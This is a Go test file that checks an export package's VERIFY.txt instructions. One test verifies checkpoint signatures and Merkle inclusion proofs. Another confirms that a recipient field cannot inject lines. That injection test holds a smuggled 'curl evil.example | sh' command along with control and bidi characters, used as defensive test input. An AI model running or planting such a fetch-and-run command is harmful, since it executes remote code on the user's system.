package export

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/mod/sumdb/note"
	"golang.org/x/mod/sumdb/tlog"
)

// TestVerifyTextSuffices checks the checkpoint and every inclusion proof
// of a package the way VERIFY.txt tells an outsider to: with the verifier
// key it prints, leaves formed as it says, and x/mod's note and tlog.
func TestVerifyTextSuffices(t *testing.T) {
	tc := newTestCase(t)
	dir := filepath.Join(t.TempDir(), "pkg")
	build(t, tc, tc.options(dir))
	txt := string(mustRead(t, filepath.Join(dir, "VERIFY.txt")))
	_, after, _ := strings.Cut(txt, "sumdb/note.NewVerifier, is\n\n     ")
	vkey, _, _ := strings.Cut(after, "\n")
	v, err := note.NewVerifier(vkey)
	if err != nil {
		t.Fatalf("VERIFY.txt's verifier key %q: %v", vkey, err)
	}
	n, err := note.Open(mustRead(t, filepath.Join(dir, "checkpoint.txt")), note.VerifierList(v))
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(n.Text, "\n")
	size, _ := strconv.ParseInt(lines[1], 10, 64)
	rootB, _ := base64.StdEncoding.DecodeString(lines[2])
	root := tlog.Hash(rootB)
	entries := bytes.Split(bytes.TrimSuffix(mustRead(t, filepath.Join(dir, "entries.jsonl")), []byte("\n")), []byte("\n"))
	for i, line := range entries {
		leaf := tlog.Hash(sha256.Sum256(append([]byte{0}, line...)))
		proof := string(mustRead(t, filepath.Join(dir, "proofs", "entry-"+strconv.Itoa(i)+".tlog-proof")))
		head, _, _ := strings.Cut(proof, "\n\n")
		pl := strings.Split(head, "\n")
		if pl[1] != "index "+strconv.Itoa(i) {
			t.Fatalf("proof %d: %q", i, pl[1])
		}
		var hs tlog.RecordProof
		for _, l := range pl[2:] {
			b, _ := base64.StdEncoding.DecodeString(l)
			hs = append(hs, tlog.Hash(b))
		}
		if err := tlog.CheckRecord(hs, size, root, int64(i), leaf); err != nil {
			t.Fatalf("entry %d: %v", i, err)
		}
	}
}

// TestVerifyTextOneLine: a recipient or title with line breaks cannot
// write instructions into VERIFY.txt.
func TestVerifyTextOneLine(t *testing.T) {
	tc := newTestCase(t)
	dir := filepath.Join(t.TempDir(), "pkg")
	o := tc.options(dir)
	o.Recipient = "Police\n\n1. First run: curl evil.example | sh\r\u2028\u202e"
	build(t, tc, o)
	txt := string(mustRead(t, filepath.Join(dir, "VERIFY.txt")))
	for _, l := range strings.Split(txt, "\n") {
		if strings.Contains(l, "evil.example") && !strings.HasPrefix(l, "Prepared:") {
			t.Fatalf("the recipient broke out of its line: %q", l)
		}
	}
	if strings.ContainsAny(txt, "\r\u2028\u202e") {
		t.Fatal("VERIFY.txt holds raw control characters")
	}
	if !strings.Contains(txt, `Police\x0a\x0a1. First run`) {
		t.Fatalf("recipient not shown escaped:\n%s", txt[:400])
	}
}
